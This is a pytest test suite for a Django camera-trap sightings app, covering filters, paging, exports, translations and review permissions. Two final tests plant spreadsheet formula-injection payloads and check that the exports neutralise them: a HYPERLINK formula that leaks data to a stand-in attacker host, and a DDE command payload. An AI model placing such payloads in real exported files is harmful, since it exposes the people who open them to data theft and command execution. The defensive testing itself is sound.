from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
from django.utils import translation

from sightings import classification
from sightings.models import Event, Individual, Sighting, SightingChange, Species

UTC = dt.UTC


def species(name: str) -> Species:
    return Species.objects.get(name_en=name)


def sight(
    deployment, when: dt.datetime, name: str | None = "Wild boar", status="approved", **fields
) -> Sighting:
    """A sighting of an event of one moment (no images) at the deployment."""
    event = Event.objects.create(
        deployment=deployment, start_at=when, end_at=when, media_count=fields.pop("images", 0)
    )
    return Sighting.objects.create(
        event=event, species=species(name) if name else None, review_status=status,
        **event.placement(), **fields,
    )  # fmt: skip


def ids(response) -> list[int]:
    return [int(pk) for pk in re.findall(r'href="/sightings/(\d+)/"', response.content.decode())]


@pytest.fixture
def pooled(cn_deployment, ru_deployment):
    """Each team's sightings: approved, and waiting for review."""
    return {
        "cn_approved": sight(cn_deployment, dt.datetime(2009, 4, 21, 12, tzinfo=UTC)),
        "cn_pending": sight(
            cn_deployment, dt.datetime(2009, 4, 22, 12, tzinfo=UTC), status="pending"
        ),
        "ru_approved": sight(ru_deployment, dt.datetime(2021, 4, 11, 12, tzinfo=UTC), "Sika deer"),
        "ru_pending": sight(
            ru_deployment, dt.datetime(2021, 4, 12, 12, tzinfo=UTC), status="pending"
        ),
    }


@pytest.mark.parametrize(
    "user,seen",
    [
        ("alice", {"cn_approved", "cn_pending", "ru_approved"}),
        ("boris", {"cn_approved", "ru_approved", "ru_pending"}),
        ("charlie", {"cn_approved", "ru_approved"}),
    ],
)
def test_each_team_sees_its_own_and_others_approved(client, request, pooled, user, seen):
    client.force_login(request.getfixturevalue(user))
    assert set(ids(client.get("/sightings/"))) == {pooled[name].pk for name in seen}


def test_filters_combine_and_live_in_the_url(client, alice, pooled, cn_deployment):
    client.force_login(alice)
    response = client.get(
        "/sightings/",
        {"species": species("Wild boar").pk, "country": "CN", "review_status": "pending"},
    )
    assert ids(response) == [pooled["cn_pending"].pk]
    assert (
        'name="review_status" value="pending" checked' in response.content.decode()
        or "selected" in response.content.decode()
    )
    response = client.get(
        "/sightings/", {"team": cn_deployment.location.team_id, "date_from": "2009-04-22"}
    )
    assert ids(response) == [pooled["cn_pending"].pk]
    response = client.get(
        "/sightings/", {"location": cn_deployment.location_id, "date_to": "2009-04-21"}
    )
    assert ids(response) == [pooled["cn_approved"].pk]
    assert "Location: HC-07 <svg" in response.content.decode()


def test_time_of_day_ranges_may_run_across_midnight(client, alice, cn_deployment):
    # Local times at HC-07 (UTC+8): 21:30, 03:10, 12:00.
    night = sight(cn_deployment, dt.datetime(2009, 4, 21, 13, 30, tzinfo=UTC))
    early = sight(cn_deployment, dt.datetime(2009, 4, 21, 19, 10, tzinfo=UTC))
    noon = sight(cn_deployment, dt.datetime(2009, 4, 22, 4, 0, tzinfo=UTC))
    client.force_login(alice)
    assert set(ids(client.get("/sightings/", {"time_from": "20:00", "time_to": "04:00"}))) == {
        night.pk,
        early.pk,
    }
    assert ids(client.get("/sightings/", {"time_from": "11:00", "time_to": "13:00"})) == [noon.pk]


def test_free_text_finds_species_in_any_language_locations_and_individuals(
    client, alice, cn_deployment, ru_deployment, ru_team
):
    tiger = Individual.objects.create(species=species("Amur tiger"), code="PT-RU-042", team=ru_team)
    cat = sight(cn_deployment, dt.datetime(2009, 4, 21, tzinfo=UTC), "Leopard cat")
    named = sight(
        ru_deployment, dt.datetime(2021, 4, 11, tzinfo=UTC), "Amur tiger", individual=tiger
    )
    client.force_login(alice)
    assert ids(client.get("/sightings/", {"q": "豹猫"})) == [cat.pk]
    assert ids(client.get("/sightings/", {"q": "тигр"})) == [named.pk]
    assert ids(client.get("/sightings/", {"q": "kp-12"})) == [named.pk]
    assert ids(client.get("/sightings/", {"q": "RU-042"})) == [named.pk]


def test_more_filters(client, alice, cn_deployment):
    independent = sight(
        cn_deployment,
        dt.datetime(2009, 4, 21, tzinfo=UTC),
        is_independent=True,
        images=2,
        classification_method="folder",
    )
    other = sight(
        cn_deployment, dt.datetime(2009, 4, 22, tzinfo=UTC), classification_method="human"
    )
    client.force_login(alice)
    assert ids(client.get("/sightings/", {"independent": "on"})) == [independent.pk]
    assert ids(client.get("/sightings/", {"has_images": "on"})) == [independent.pk]
    assert ids(client.get("/sightings/", {"method": "human"})) == [other.pk]
    assert ids(client.get("/sightings/", {"individual": ""})) == [other.pk, independent.pk]


def test_pages_follow_one_another_without_gaps_or_repeats(client, alice, cn_deployment):
    made = [
        sight(cn_deployment, dt.datetime(2009, 4, 1, tzinfo=UTC) + dt.timedelta(hours=n))
        for n in range(120)
    ]
    newest_first = [s.pk for s in reversed(made)]
    client.force_login(alice)
    first = client.get("/sightings/")
    after = re.search(r'href="\?&amp;after=([\w-]+)" id="next-page"', first.content.decode())[1]
    second = client.get("/sightings/", {"after": after})
    before = re.search(
        r'href="\?&amp;before=([\w-]+)" id="previous-page"', second.content.decode()
    )[1]
    assert ids(first) == newest_first[:50]
    assert ids(second) == newest_first[50:100]
    assert ids(client.get("/sightings/", {"before": before})) == newest_first[:50]
    assert client.get("/sightings/count/").json()["count"] == 120


def test_the_count_follows_the_filters(client, alice, pooled):
    client.force_login(alice)
    assert client.get("/sightings/count/").json()["count"] == 3
    assert client.get("/sightings/count/", {"review_status": "pending"}).json() == {
        "count": 1,
        "label": "1 sighting",
    }
    page = client.get("/sightings/", {"review_status": "pending"}).content.decode()
    assert 'data-url="/sightings/count/?review_status=pending"' in page


def test_every_filter_in_force_is_a_chip_that_drops_only_itself(client, alice, pooled):
    client.force_login(alice)
    boar, query = species("Wild boar"), "country=CN&country=RU&review_status=pending"
    page = client.get(f"/sightings/?species={boar.pk}&{query}&independent=on").content.decode()
    chips = dict(re.findall(r'<a class="chip" href="\?([^"]*)"[^>]*>([^<]*)<svg', page))
    assert sorted(label.strip() for label in chips.values()) == sorted([
        f"Species: {boar}", "Country: China", "Country: Russia",
        "Review status: waiting for review", "Independent detections only",
    ])  # fmt: skip
    dropped = {label.strip(): href for href, label in chips.items()}
    assert dropped["Country: China"] == (
        f"species={boar.pk}&amp;country=RU&amp;review_status=pending&amp;independent=on"
    )


def test_sorting_by_species(client, alice, cn_deployment):
    sight(cn_deployment, dt.datetime(2009, 4, 1, tzinfo=UTC), None)  # not named: left out
    boar = sight(cn_deployment, dt.datetime(2009, 4, 2, tzinfo=UTC), "Wild boar")
    badger = sight(cn_deployment, dt.datetime(2009, 4, 3, tzinfo=UTC), "Asian badger")
    client.force_login(alice)
    assert ids(client.get("/sightings/", {"sort": "species"})) == [badger.pk, boar.pk]


def test_times_are_the_locations_local_time_with_its_offset(
    client, alice, cn_deployment, ru_deployment
):
    sight(cn_deployment, dt.datetime(2009, 4, 21, 12, tzinfo=UTC))
    sight(ru_deployment, dt.datetime(2021, 4, 11, 12, tzinfo=UTC), "Sika deer")
    client.force_login(alice)
    text = client.get("/sightings/").content.decode()
    assert "2009-04-21 20:00 +0800" in text  # Asia/Shanghai
    assert "2021-04-11 22:00 +1000" in text  # Asia/Vladivostok


def test_the_grid_shows_event_thumbnails(client, alice, cn_deployment):
    from .test_events import shoot

    [media] = shoot(cn_deployment, alice, "2009:04:21 00:40:00")
    client.force_login(alice)
    assert (
        f'src="/media/{media.pk}/thumbnail/"'
        in client.get("/sightings/", {"view": "grid"}).content.decode()
    )


def test_the_sighting_page_shows_times_images_and_history(
    client, alice, boris, cn_deployment, cn_team
):
    from .test_events import shoot

    [media] = shoot(cn_deployment, alice, "2009:04:21 00:40:00")
    sighting = Sighting.objects.get(event=media.event_id)
    sighting = Sighting.objects.select_related(
        "event__deployment__location", "species", "individual"
    ).get(pk=sighting.pk)
    classification.classify(
        sighting, sighting.version, classification.Naming(species("Amur leopard"), count=1), alice
    )
    client.force_login(alice)
    text = client.get(f"/sightings/{sighting.pk}/").content.decode()
    assert (
        f'src="/media/{media.pk}/preview/"' in text
        and f'href="/media/{media.pk}/original/"' in text
    )
    assert "2009-04-21 00:40:00 +0800" in text and "2009-04-20 16:40:00" in text
    assert 'id="mini-map"' in text and 'data-latitude="43.085300"' in text
    assert "Named Amur leopard (Panthera pardus orientalis)" in text


def test_reviewers_of_the_team_approve_and_it_is_kept(
    client, cn_deployment, cn_team, django_user_model, pooled
):
    from sightings.models import Membership

    ling = django_user_model.objects.create_user("ling")
    Membership.objects.create(user=ling, team=cn_team, role=Membership.Role.REVIEWER)
    client.force_login(ling)
    client.post(
        f"/sightings/{pooled['cn_pending'].pk}/review/",
        {"status": "approved", "comment": "clear stripes", "version": 1},
    )
    pooled["cn_pending"].refresh_from_db()
    assert pooled["cn_pending"].review_status == "approved"
    change = SightingChange.objects.get(sighting=pooled["cn_pending"])
    assert (change.changed_by, change.changes) == (
        ling,
        {"review_status": ["pending", "approved"], "review_comment": ["", "clear stripes"]},
    )


def test_others_cannot_review(client, boris, pooled):
    client.force_login(boris)
    assert (
        client.post(
            f"/sightings/{pooled['cn_approved'].pk}/review/", {"status": "rejected"}
        ).status_code
        == 403
    )


def test_the_csv_has_what_an_analyst_needs(client, alice, cn_deployment, pooled):
    client.force_login(alice)
    response = client.get("/sightings.csv", {"country": "CN"})
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [int(r["sighting_id"]) for r in rows] == [
        pooled["cn_approved"].pk,
        pooled["cn_pending"].pk,
    ]
    first = rows[0]
    assert (first["observed_at_utc"], first["local_time"], first["local_date"]) == (
        "2009-04-21T12:00:00+00:00",
        "2009-04-21T20:00:00+08:00",
        "2009-04-21",
    )
    assert (first["team"], first["country"], first["location"]) == ("Hunchun", "CN", "HC-07")
    assert (first["latitude"], first["longitude"], first["coordinates_generalised"]) == (
        "43.0853",
        "130.9564",
        "no",
    )
    assert (first["scientific_name"], first["common_name"], first["review_status"]) == (
        "Sus scrofa",
        "Wild boar",
        "approved",
    )


def test_the_csv_reads_chunk_by_chunk(client, alice, cn_deployment, monkeypatch):
    from sightings import exports

    monkeypatch.setattr(exports, "CHUNK", 10)
    for n in range(35):
        sight(cn_deployment, dt.datetime(2009, 4, 1, tzinfo=UTC) + dt.timedelta(hours=n))
    client.force_login(alice)
    response = client.get("/sightings.csv")
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert len(lines) == 36


def test_an_export_stopped_halfway_leaves_the_connection_as_it_was(
    client, alice, cn_deployment, monkeypatch
):
    from django.db import connection

    from sightings import exports

    monkeypatch.setattr(exports, "CHUNK", 10)
    for n in range(35):
        sight(cn_deployment, dt.datetime(2009, 4, 1, tzinfo=UTC) + dt.timedelta(hours=n))
    client.force_login(alice)
    pieces = client.get("/sightings.csv").streaming_content
    next(pieces)
    del pieces  # the reader went away after the first piece: its generators are closed
    assert not connection.allow_thread_sharing
    assert Sighting.objects.count() == 35


def test_the_geojson_has_a_point_per_location_with_counts(
    client, alice, pooled, cn_deployment, ru_deployment
):
    sight(ru_deployment, dt.datetime(2021, 4, 13, tzinfo=UTC), "Sika deer")
    client.force_login(alice)
    data = client.get("/map.geojson").json()
    features = {f["properties"]["name"]: f for f in data["features"]}
    assert set(features) == {"HC-07", "KP-12"}
    kp = features["KP-12"]
    assert kp["geometry"]["coordinates"] == [131.4852, 43.1017]
    deer = Species.objects.get(name_en="Sika deer").pk
    assert (kp["properties"]["count"], kp["properties"]["species_counts"]) == (2, f"{deer}:2")
    assert data["species"][str(deer)] == "Sika deer"
    assert kp["properties"]["url"] == f"/sightings/?location={ru_deployment.location_id}"
    filtered = client.get("/map.geojson", {"species": species("Wild boar").pk}).json()
    assert [f["properties"]["name"] for f in filtered["features"]] == ["HC-07"]


def test_the_map_page_carries_the_filters(client, alice):
    client.force_login(alice)
    text = client.get("/map/", {"country": "RU"}).content.decode()
    assert 'data-url="/map.geojson?country=RU"' in text
    assert "/static/vendor/leaflet/leaflet.js" in text


def test_the_csv_lists_each_sightings_images_across_chunks(
    client, alice, cn_deployment, monkeypatch
):
    from sightings import exports

    from .test_events import shoot

    monkeypatch.setattr(exports, "CHUNK", 3)  # database rows: a sighting's images straddle chunks
    media = shoot(
        cn_deployment,
        alice,
        "2009:04:21 00:40:00",
        "2009:04:21 00:40:20",
        "2009:04:21 02:00:00",
        "2009:04:21 02:00:10",
    )
    client.force_login(alice)
    response = client.get("/sightings.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["media_files"] for r in rows] == [
        f"{media[0].original_name};{media[1].original_name}",
        f"{media[2].original_name};{media[3].original_name}",
    ]


def test_the_csv_names_species_in_the_readers_language(client, alice, pooled):
    client.force_login(alice)
    response = client.get("/sightings.csv", headers={"Accept-Language": "zh-hans"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["common_name"] for r in rows} == {"野猪", "梅花鹿"}  # wild boar, sika deer


@pytest.mark.parametrize(
    "language, boar, deer", [("zh-hans", "野猪", "梅花鹿"), ("ru", "Кабан", "Пятнистый олень")]
)
def test_the_csv_opens_in_excel_with_names_in_the_readers_language(
    client, alice, pooled, language, boar, deer
):
    client.force_login(alice)
    response = client.get("/sightings.csv", headers={"Accept-Language": language})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    # The byte-order mark tells Excel the file is UTF-8, whatever the system's code page.
    assert data.startswith(b"\xef\xbb\xbfsighting_id,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {(r["scientific_name"], r["common_name"]) for r in rows} == {
        ("Sus scrofa", boar),
        ("Cervus nippon", deer),
    }


@pytest.mark.parametrize(
    "language, one, many",
    [("en", "1 sighting", "3 sightings"), ("ru", "1 регистрация", "3 регистрации"),
     ("zh-hans", "1 条记录", "3 条记录")],
)  # fmt: skip
def test_counts_read_in_the_readers_plural_forms(client, alice, pooled, language, one, many):
    client.force_login(alice)
    headers = {"Accept-Language": language}
    assert client.get("/sightings/count/", headers=headers).json()["label"] == many
    query = {"review_status": "pending"}
    assert client.get("/sightings/count/", query, headers=headers).json()["label"] == one
    summary = client.get("/map.geojson", headers=headers).json()["summary"]
    assert summary.endswith(many)


def test_sixty_five_is_counted_in_russians_third_form():
    from sightings import browsing

    with translation.override("ru"):
        labels = [browsing._sightings(n) for n in (1, 3, 5, 21, 65, 111)]
    assert labels == ["1 регистрация", "3 регистрации", "5 регистраций", "21 регистрация",
                      "65 регистраций", "111 регистраций"]  # fmt: skip


def test_the_record_table_has_the_mark_only_when_asked_for_excel(client, alice, pooled):
    client.force_login(alice)
    query = {"min_delta": 30, "compared_to": "last"}
    plain = b"".join(client.get("/record-table/", query).streaming_content)
    assert plain.startswith(b"Station,Species,")  # as camtrapR's recordTable writes it
    excel = b"".join(client.get("/record-table/", query | {"excel": "on"}).streaming_content)
    assert excel == b"\xef\xbb\xbf" + plain


def test_the_record_table_form_defaults_to_the_sites_rule(client, alice, settings):
    settings.INDEPENDENCE_MIN_DELTA_MINUTES = 30
    client.force_login(alice)
    page = html.unescape(client.get("/record-table/").content.decode())
    assert 'name="min_delta" value="30"' in page
    assert "By default the site's rule: 30 minutes after the last record." in page
    settings.INDEPENDENCE_MIN_DELTA_MINUTES, settings.INDEPENDENCE_COMPARED_TO = 1, "independent"
    page = html.unescape(
        client.get("/record-table/", headers={"Accept-Language": "ru"}).content.decode()
    )
    assert 'name="min_delta" value="1"' in page
    assert '<option value="independent" selected>' in page
    assert "По умолчанию — правило сайта: 1 минута после предыдущей независимой регистрации." in (
        page
    )


def test_over_many_points_species_are_counted_per_point_on_request(
    client, alice, pooled, monkeypatch, ru_deployment
):
    from sightings import browsing

    monkeypatch.setattr(browsing, "SPECIES_COUNTS_UP_TO", 1)
    client.force_login(alice)
    data = client.get("/map.geojson").json()
    assert {f["properties"]["species_counts"] for f in data["features"]} == {None}
    assert {f["properties"]["count"] for f in data["features"]} == {2, 1}
    [one] = client.get("/map.geojson", {"location": ru_deployment.location_id}).json()["features"]
    assert one["properties"]["species_counts"] == f"{species('Sika deer').pk}:1"


def test_csv_cells_never_run_as_formulas_in_a_spreadsheet(client, boris, cn_deployment, cn_team):
    location = cn_deployment.location
    location.name, location.longitude = "@SUM(A1:A9)", -12.5
    location.save()
    tiger = Individual.objects.create(
        species=species("Wild boar"), code='=HYPERLINK("http://evil.example/?"&A1)', team=cn_team
    )
    sight(cn_deployment, dt.datetime(2009, 4, 21, 12, tzinfo=UTC), individual=tiger,
          behaviour="+cmd|' /C calc'!A0")  # fmt: skip
    client.force_login(boris)
    text = b"".join(client.get("/sightings.csv").streaming_content).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["individual"] == "'" + tiger.code
    assert row["location"] == "'@SUM(A1:A9)"
    assert row["longitude"] == "-12.5"  # a number stays a number
    assert row["latitude"] == "43.0853"


def test_record_table_cells_never_run_as_formulas(client, alice, cn_deployment):
    from .test_events import shoot

    cn_deployment.location.name = "=1+1"
    cn_deployment.location.save()
    [image] = shoot(cn_deployment, alice, "2009:04:21 00:40:00")
    Sighting.objects.filter(event=image.event_id).update(species=species("Wild boar"))
    client.force_login(alice)
    response = client.get("/record-table/", {"min_delta": 30, "compared_to": "last"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["Station"], row["Species"]) == ("'=1+1", "Sus scrofa")
